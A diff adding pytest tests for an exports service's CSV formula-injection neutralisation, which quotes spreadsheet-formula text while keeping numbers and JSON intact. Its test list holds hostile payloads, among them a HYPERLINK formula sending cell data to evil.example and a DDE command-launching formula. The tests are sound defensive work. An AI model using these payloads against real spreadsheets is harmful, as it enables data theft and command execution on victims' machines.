@@ -1,6 +1,8 @@
 """The exports service's pure parts: the archive's limits stop an export
-before it grows past them; a download link names one export of one network
-until it expires, and any change to it is refused."""
+before it grows past them; text cells a spreadsheet would read as formulas
+are neutralised (OWASP) while numbers, amounts and JSON cells are written as
+they are; a download link names one export of one network until it expires,
+and any change to it is refused."""
 
 from __future__ import annotations
 
@@ -9,10 +11,11 @@ import io
 import json
 import zipfile
 from datetime import UTC, datetime, timedelta
+from decimal import Decimal
 
 import pytest
 
-from services.exports.archive import FILES, ArchiveWriter, Limits, TooLarge
+from services.exports.archive import BY_NAME, FILES, ArchiveWriter, Limits, TooLarge, neutralise
 from services.exports.links import Signer
 from services.referrals import contract as rc
 from services.runtime.errors import InvalidToken
@@ -58,6 +61,107 @@ def test_rows_are_written_as_csv_and_the_limits_stop_a_large_export() -> None:
             small.add("one_to_ones.csv", [one_to_one(n) for n in range(5)])
     finally:
         small.close()
+
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?d="&A1,"Open")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    " =1+1",  # after leading whitespace (some spreadsheets trim it on import)
+    "\n\t @SUM(A1)",
+    "=cmd|' /C calc'!A0",
+]
+PLAIN = ["Ana", "a=b", "1-2", "", "'already quoted", "(=1)", "plumber, Paris 11e", "x@y.example"]
+
+
+@pytest.mark.parametrize("text", FORMULAS, ids=[f"formula{i}" for i in range(len(FORMULAS))])
+def test_a_text_a_spreadsheet_would_take_for_a_formula_starts_with_a_quote(text: str) -> None:
+    assert neutralise(text) == "'" + text
+
+
+@pytest.mark.parametrize("text", PLAIN, ids=[f"plain{i}" for i in range(len(PLAIN))])
+def test_other_text_is_left_as_it_is(text: str) -> None:
+    assert neutralise(text) == text
+
+
+def test_csv_text_cells_are_neutralised_and_numbers_amounts_and_json_kept() -> None:
+    """Every text column of every CSV, a number that is negative (not
+    text: never escaped), an amount and a list (JSON cells start with { or [)."""
+    for spec in FILES:
+        for column in ("rows", "at", "answered_at", "waitlist_position", "pending", "value"):
+            assert column not in spec.text_columns, (spec.name, column)
+    assert {"display_name", "bio", "email", "offers"} <= BY_NAME["members.csv"].text_columns
+    assert {"topic", "description"} <= BY_NAME["workshop_proposals.csv"].text_columns
+    assert {"url", "description"} <= BY_NAME["webhook_endpoints.csv"].text_columns
+
+    writer = ArchiveWriter()
+    try:
+        endpoint = {
+            "endpoint_id": "e1",
+            "tenant_id": "t1",
+            "url": "https://hooks.example/q",
+            "event_types": ["=quartier.hubs."],
+            "description": FORMULAS[0],
+            "enabled": True,
+            "disabled_reason": None,
+            "created_at": NOW.isoformat(),
+            "updated_at": NOW.isoformat(),
+            "secret_rotated_at": None,
+            "pending": -2,  # a number (never negative in practice): written as it is
+            "failing_since": None,
+        }
+        writer.add("webhook_endpoints.csv", [endpoint])
+        thanks = rc.Thanks(
+            thanks_id="th1",
+            giver_id="a",
+            receiver_id="b",
+            referral_id=None,
+            hub_id=None,
+            about="-2+3",
+            value=rc.Money(amount=Decimal("-12.50")),
+            at=NOW,
+        )
+        writer.add("thanks.csv", [thanks])
+        writer.add(
+            "workshop_proposals.csv",
+            [
+                {
+                    "proposal_id": "p1",
+                    "hub_id": "h1",
+                    "host_id": "a",
+                    "topic": text,
+                    "description": "plain words",
+                    "proposed_at": NOW.isoformat(),
+                    "meetup_id": None,
+                }
+                for text in FORMULAS + PLAIN
+            ],
+        )
+        writer.add("needs.ndjson", [{"need_id": "n1", "description": "=1+1"}])
+        path = writer.finish({"scope": "network"}, NOW, NOW)
+        with zipfile.ZipFile(path) as z:
+
+            def rows(name: str) -> list[dict[str, str]]:
+                text = z.read(name).decode()
+                return list(csv.DictReader(io.StringIO(text, newline="")))
+
+            [hook] = rows("webhook_endpoints.csv")
+            [thank] = rows("thanks.csv")
+            proposals = rows("workshop_proposals.csv")
+            need = json.loads(z.read("needs.ndjson"))
+            readme = z.read("README.txt").decode()
+    finally:
+        writer.close()
+    assert hook["description"] == "'" + FORMULAS[0] and hook["pending"] == "-2"
+    assert hook["event_types"] == '["=quartier.hubs."]' and hook["enabled"] == "true"
+    assert thank["about"] == "'-2+3"
+    assert json.loads(thank["value"]) == {"amount": "-12.50", "currency": "EUR"}
+    assert [p["topic"] for p in proposals] == ["'" + t for t in FORMULAS] + PLAIN
+    assert need["description"] == "=1+1"  # NDJSON is no spreadsheet's: as written
+    assert "single quote" in readme
 
 
 def test_a_link_names_one_export_of_one_network_until_it_expires() -> None:
